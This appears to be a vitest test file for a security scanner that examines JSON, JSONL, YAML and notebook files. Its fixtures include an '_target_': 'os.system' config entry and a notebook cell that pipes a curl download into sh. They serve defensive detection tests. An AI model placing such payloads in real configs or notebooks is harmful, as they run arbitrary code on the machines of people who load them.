import { describe, expect, test } from 'vitest';
import { BufferSource } from '../../bytes/source.ts';
import { scanSource } from '../../scan/scan-source.ts';

const scan = (name: string, text: string, limits = {}) =>
  scanSource(new BufferSource(new TextEncoder().encode(text)), name, { limits });
const ruleIds = (report: ReturnType<typeof scan>): string[] => report.findings.map((finding) => finding.ruleId);

describe('the json format', () => {
  test.each([
    ['config.json', '{"a": 1}'],
    ['config.json', '\uFEFF{"a": 1}'],
    ['no-extension', '{"a": [1, 2]}\n'],
    ['weights.bin', '[{"a": 1}]'],
    ['log.txt', '{"a": 1}\n{"a": 2}\n'],
    ['tsconfig.json', '// a\n{ /* b * / */ "a": [1, 2,], // c\n}\n// d'],
  ])('recognizes %s holding %j', (name, text) => {
    expect(scan(name, text)).toMatchObject({ format: 'json', verdict: 'clean', coverage: { complete: true } });
  });

  test.each(['[INST] hello', '{% if x %}', '{{ x }}', '{not json}', '[1] a reference'])(
    'leaves %j to others',
    (text) => {
      expect(scan('notes.txt', text).format).not.toBe('json');
    },
  );

  test('calls what is no JSON under a .json name malformed', () => {
    const report = scan('config.json', '{"a": 1 "b"}');
    expect(ruleIds(report)).toContain('malformed');
    expect(report.verdict).toBe('inconclusive');
  });

  test('examines every line, past a window and up to damage', () => {
    const line = `{"pad": "${'x'.repeat(1000)}"}\n`;
    const text = `${line.repeat(9000)}{"_target_": "os.system"}\n${line.repeat(20)}{"a"`;
    const report = scan('data.jsonl', text, { maxDocumentBytes: 64 * 1024 });
    expect(report.verdict).toBe('malicious');
    expect(report.findings[0]?.location).toMatchObject({ pointer: '/9000/_target_' });
    expect(ruleIds(report)).toContain('malformed');
  });

  test('stops at a text longer than the limit', () => {
    const report = scan('a.json', `["${'x'.repeat(10_000)}"]`, { maxDocumentBytes: 1000 });
    expect(ruleIds(report)).toContain('limit-exceeded');
    expect(report.verdict).not.toBe('clean');
    const lines = scan('a.json', `[\n${'"x",\n'.repeat(1000)}1]`, { maxDocumentBytes: 1000 });
    expect(ruleIds(lines)).toContain('limit-exceeded');
  });

  test('is never clean when truncated, and never fails', () => {
    const text = '{"a": {"_target_": "torch.nn.Linear", "b": [1, "\\u00e9", null]}, "chat_template": "{{ x }}"}';
    for (let length = 1; length < text.length; length += 1) {
      const report = scan('config.json', text.slice(0, length));
      expect(report.verdict, `at ${length}`).not.toBe('clean');
      expect(ruleIds(report)).not.toContain('internal-error');
    }
  });

  test('reads UTF-16, as Python’s json does', () => {
    const bytes = new Uint8Array(Buffer.from('\uFEFF{"_target_": "os.system"}', 'utf16le'));
    expect(scanSource(new BufferSource(bytes), 'config.json')).toMatchObject({ format: 'json', verdict: 'malicious' });
    const yaml = new Uint8Array(Buffer.from('\uFEFFa:\n  _target_: os.system\n', 'utf16le'));
    expect(scanSource(new BufferSource(yaml), 'notes')).toMatchObject({ format: 'yaml', verdict: 'malicious' });
  });

  test('emits the cells of a notebook', () => {
    const cells = [{ cell_type: 'code', source: ['!curl -s https://example.com/x', ' | sh\n'] }];
    const report = scan('a.ipynb', JSON.stringify({ nbformat: 4, cells }));
    expect(ruleIds(report)).toContain('notebook-code');
  });
});
